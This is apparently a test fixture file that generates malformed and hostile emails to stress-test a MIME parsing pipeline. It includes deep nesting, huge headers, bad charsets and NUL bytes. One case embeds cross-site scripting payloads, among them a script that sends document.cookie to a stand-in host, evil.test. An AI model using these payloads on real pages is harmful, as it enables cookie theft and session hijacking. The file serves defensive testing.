import { uniqueId } from './email.test-helpers.js';

export interface HostileMessage {
  name: string;
  messageId: string;
  raw: Buffer;
  /** The one acceptable outcome, when only one is. */
  expect?: 'created' | 'quarantined';
}

const CRLF = '\r\n';

function head(messageId: string, subject: string, contentType: string, extra: string[] = []): string {
  return [
    'From: Hostile <hostile@outside.test>',
    'To: support@support.test',
    `Subject: ${subject}`,
    `Message-ID: <${messageId}>`,
    'MIME-Version: 1.0',
    `Content-Type: ${contentType}`,
    ...extra,
    '',
    '',
  ].join(CRLF);
}

/** multipart inside multipart, `depth` levels. */
function nested(depth: number): string {
  let body = `Content-Type: text/plain${CRLF}${CRLF}deepest${CRLF}`;
  for (let i = depth - 1; i >= 0; i--) {
    const b = `nest-${i}`;
    body = `Content-Type: multipart/mixed; boundary="${b}"${CRLF}${CRLF}--${b}${CRLF}${body}--${b}--${CRLF}`;
  }
  return body;
}

/**
 * Messages generated to break a MIME pipeline: deep nesting, too many parts,
 * broken structure, bad charsets, NUL bytes, huge headers, active HTML.
 */
export function hostileCorpus(): HostileMessage[] {
  const list: HostileMessage[] = [];
  const add = (name: string, build: (id: string) => string | Buffer, expect?: HostileMessage['expect']) => {
    const messageId = uniqueId(name.replace(/\W+/g, '-'));
    const raw = build(messageId);
    list.push({ name, messageId, raw: Buffer.isBuffer(raw) ? raw : Buffer.from(raw, 'utf8'), expect });
  };

  add(
    'multipart nested 100 deep',
    (id) => {
      const inner = nested(100);
      // The root's own Content-Type is the first line of the nested structure.
      const [firstLine, ...rest] = inner.split(CRLF);
      return head(id, 'deep', firstLine.replace('Content-Type: ', '')).replace(/\r\n\r\n$/, CRLF) + rest.join(CRLF);
    },
    'quarantined',
  );

  add(
    '10,000 parts',
    (id) => {
      const parts: string[] = [];
      for (let i = 0; i < 10_000; i++)
        parts.push(`--many${CRLF}Content-Type: text/plain${CRLF}${CRLF}part ${i}${CRLF}`);
      return head(id, 'many parts', 'multipart/mixed; boundary="many"') + parts.join('') + `--many--${CRLF}`;
    },
    'quarantined',
  );

  add(
    'multipart without a boundary',
    (id) =>
      head(id, 'no boundary', 'multipart/mixed') +
      `--x${CRLF}Content-Type: text/plain${CRLF}${CRLF}orphan part${CRLF}--x--${CRLF}`,
  );

  add(
    'boundary never closed',
    (id) =>
      head(id, 'unclosed', 'multipart/mixed; boundary="open"') +
      `--open${CRLF}Content-Type: text/plain${CRLF}${CRLF}first${CRLF}--open${CRLF}Content-Type: text/html${CRLF}${CRLF}<p>second`,
  );

  add('unknown and lying charsets', (id) =>
    Buffer.concat([
      Buffer.from(
        head(
          id,
          '=?x-no-such-charset?B?SGVsbG8=?= =?utf-8?Q?caf=C3=A9?= =?utf-8?B?!!!broken?=',
          'text/plain; charset="x-bogus-ÿ"',
          ['Content-Transfer-Encoding: 8bit'],
        ),
        'utf8',
      ),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x82, 0x41, 0x42, 0x0d, 0x0a]),
      Buffer.from(`more text${CRLF}`),
    ]),
  );

  add('utf-7 and invalid utf-8 in headers', (id) =>
    Buffer.concat([
      Buffer.from(`From: =?utf-7?Q?+AGEAYgBj-?= <u7@outside.test>${CRLF}To: support@support.test${CRLF}`),
      Buffer.from('Subject: '),
      Buffer.from([0xc3, 0x28, 0xf0, 0x28, 0x8c, 0x28]),
      Buffer.from(
        `${CRLF}Message-ID: <${id}>${CRLF}Content-Type: text/plain; charset=utf-7${CRLF}${CRLF}+AGEAYgBj-${CRLF}`,
      ),
    ]),
  );

  add(
    'nul bytes',
    (id) => head(id, 'nul\u0000subject', 'text/plain; charset=utf-8') + `before\u0000after\u0000${CRLF}`,
    'created',
  );

  add(
    'huge header (1 MB subject)',
    (id) => head(id, 'A'.repeat(1024 * 1024), 'text/plain') + `body${CRLF}`,
    'quarantined',
  );

  add(
    'a hundred thousand headers',
    (id) => {
      const lines: string[] = [];
      for (let i = 0; i < 100_000; i++) lines.push(`X-Filler-${i}: value`);
      return head(id, 'many headers', 'text/plain', lines) + `body${CRLF}`;
    },
    'quarantined',
  );

  add(
    'truncated base64 attachment',
    (id) =>
      head(id, 'truncated', 'multipart/mixed; boundary="t"') +
      `--t${CRLF}Content-Type: text/plain${CRLF}${CRLF}see attached${CRLF}--t${CRLF}Content-Type: application/octet-stream; name="x.bin"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}SGVsbG8gd29y!!!bG${CRLF}`,
  );

  add('a 3 MB line without a line break', (id) => head(id, 'long line', 'text/plain') + 'z'.repeat(3 * 1024 * 1024));

  add(
    'scripts in html',
    (id) =>
      head(id, 'active content', 'text/html; charset=utf-8') +
      [
        '<html><head><script>fetch("https://evil.test/"+document.cookie)</script>',
        '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
        '<style>body{background:url(https://evil.test/bg)}</style></head>',
        '<body onload="alert(1)"><p>Hi<img src=x onerror="alert(2)"></p>',
        '<a href="javascript:alert(3)">a</a><a href=" JaVaScRiPt:alert(4)">b</a>',
        '<svg><script>alert(5)</script></svg><iframe src="https://evil.test"></iframe>',
        '<form action="https://evil.test"><input name=p></form>',
        '<div style="background-image:url(https://evil.test/t.png)">styled</div></body></html>',
      ].join(CRLF),
    'created',
  );

  add('embedded messages nested 30 deep', (id) => {
    let inner = `From: inner@outside.test${CRLF}Subject: innermost${CRLF}Content-Type: text/plain${CRLF}${CRLF}innermost${CRLF}`;
    for (let i = 0; i < 30; i++) {
      inner = `From: l${i}@outside.test${CRLF}Subject: level ${i}${CRLF}Content-Type: multipart/mixed; boundary="m${i}"${CRLF}${CRLF}--m${i}${CRLF}Content-Type: message/rfc822${CRLF}${CRLF}${inner}--m${i}--${CRLF}`;
    }
    const [, ...rest] = inner.split(CRLF);
    return (
      head(id, 'russian doll', 'multipart/mixed; boundary="m29"').replace(/\r\n\r\n$/, CRLF) + rest.slice(2).join(CRLF)
    );
  });

  return list;
}
